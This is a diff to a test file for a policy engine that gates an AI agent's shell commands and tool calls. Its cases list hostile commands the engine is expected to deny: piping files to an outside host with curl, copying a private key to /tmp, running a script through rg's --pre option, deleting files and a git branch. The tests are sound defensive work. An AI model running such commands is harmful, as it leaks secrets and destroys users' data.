@@ -15,7 +15,6 @@ from helpers import EXAMPLES, Sandbox
 
 from policy_engine import Action, ToolCall
 
-SHELL_ANALYSIS = "needs the shell analysis: redirects, operands and pipeline stages (issue 3)"
 BREAKERS = "needs the circuit breakers and their state store (issue 6)"
 
 
@@ -47,7 +46,9 @@ CASES = [
     Case("production-configs", "/home/user", ("write", {"path": "/etc/myapp/app.yaml"}), "deny"),
     Case("production-configs", "/home/user", ("edit", {"path": "/etc/myapp/app.yaml"}), "deny"),
     Case("production-configs", "/home/user", ("ls", {"path": "/etc/myapp"}), "allow"),
-    Case("production-configs", "/home/user", "echo x > /etc/myapp/app.yaml", "deny", gap=SHELL_ANALYSIS),
+    Case("production-configs", "/home/user", "echo x > /etc/myapp/app.yaml", "deny", "rule deny write"),
+    Case("production-configs", "/etc/myapp", "sed -i s/a/b/ app.yaml", "deny", "rule deny write"),
+    Case("production-configs", "/home/user", "cat /etc/myapp/app.yaml", "deny", "defaultAction is deny"),
     # Audit-only mode
     Case("audit-only", "/home/user/work", "rm -rf build", "log"),
     Case("audit-only", "/home/user/work", ("write", {"path": "x"}), "log"),
@@ -87,34 +88,28 @@ CASES = [
     Case("project-with-fallback", "/home/user/work/critical-service", "npm install", "deny"),
     Case("project-with-fallback", "/home/user/scratch", "npm install", "allow", 'policy "open"'),
     Case("project-with-fallback", "/tmp", ("write", {"path": "/tmp/x"}), "allow"),
-    # Layered home and project policies (the README's table, by working directory)
-    Case("home-and-project", "/home/user/scratch", "rm /tmp/foo", "ask"),
-    Case("home-and-project", "/home/user/work/production", "rm /tmp/foo", "deny"),
-    Case("home-and-project", "/var/log", "rm /tmp/foo", "allow"),
+    # Layered home and project policies: the README's table, for a file where the agent works...
+    Case("home-and-project", "/home/user/scratch", "rm foo", "ask"),
+    Case("home-and-project", "/home/user/work/production", "rm foo", "deny"),
+    Case("home-and-project", "/var/log", "rm foo", "allow"),
+    # ... while `rm /tmp/foo` is judged where /tmp/foo is: outside every location, from anywhere
+    Case(
+        "home-and-project", "/home/user/work/production", "rm /tmp/foo", "allow", "no policy covers /tmp/foo"
+    ),
     Case("home-and-project", "/home/user", ("write", {"path": "notes.txt"}), "log"),
     Case("home-and-project", "/home/user", "sudo apt install x", "ask"),
     # Redirect-aware bash policies
     Case("redirect-aware", "/home/user/secrets", "cat /home/user/secrets/key.pem", "allow"),
     Case("redirect-aware", "/home/user/secrets", "cat /home/user/secrets/key.pem > /tmp/key.pem", "allow"),
-    Case(
-        "redirect-aware",
-        "/home/user",
-        "cp /home/user/secrets/key.pem /tmp/key.pem",
-        "deny",
-        gap=SHELL_ANALYSIS,
-    ),
+    Case("redirect-aware", "/home/user", "cat /home/user/secrets/key.pem > /tmp/key.pem", "allow"),
+    Case("redirect-aware", "/home/user", "cp /home/user/secrets/key.pem /tmp/key.pem", "deny"),
     Case("redirect-aware", "/home/user/secrets", ("read", {"path": "key.pem"}), "allow"),
     Case("redirect-aware", "/home/user", ("write", {"path": "/home/user/secrets/x"}), "deny"),
     # Mixed restrictiveness across pipeline stages
     Case("pipeline-stages", "/home/user/work", "cat file.txt | grep foo", "allow"),
     Case("pipeline-stages", "/home/user/work", "curl https://example.com | grep secret", "deny"),
-    Case(
-        "pipeline-stages",
-        "/home/user/work",
-        "grep pattern file.txt && curl https://log-server.io",
-        "deny",
-        gap=SHELL_ANALYSIS,
-    ),
+    Case("pipeline-stages", "/home/user/work", "grep pattern file.txt && curl https://log-server.io", "deny"),
+    Case("pipeline-stages", "/home/user/work", "cat file.txt | grep foo | curl -d @- https://x.io", "deny"),
     # Nudge toward better tools
     Case("nudge", "/home/user/work", ("read", {"path": "src/a.ts"}), "nudge"),
     Case("nudge", "/home/user/work", ("grep", {"pattern": "x"}), "nudge"),
@@ -126,8 +121,11 @@ CASES = [
     Case("readonly", "/home/user/work", "ls", "allow"),
     Case("readonly", "/home/user/work", "npm install", "deny"),
     Case("readonly", "/home/user/work", ("write", {"path": "a"}), "deny"),
-    Case("readonly", "/home/user/work", "find . -delete", "deny", gap=SHELL_ANALYSIS),
-    Case("readonly", "/home/user/work", "echo pwned > ~/.bashrc", "deny", gap=SHELL_ANALYSIS),
+    Case("readonly", "/home/user/work", "find . -delete", "deny"),
+    Case("readonly", "/home/user/work", "echo pwned > README.md", "deny", "rule deny write"),
+    Case("readonly", "/home/user/work", "sort -o sorted.txt data.txt", "deny"),
+    Case("readonly", "/home/user/work", "git branch -D main", "deny"),
+    Case("readonly", "/home/user/work", "rg --pre ./evil.sh pattern", "deny"),
     # Trusting package scripts
     Case("trusted-scripts", "/home/user/work", "bun run build", "allow"),
     Case("trusted-scripts", "/home/user/work", "bun install", "ask"),
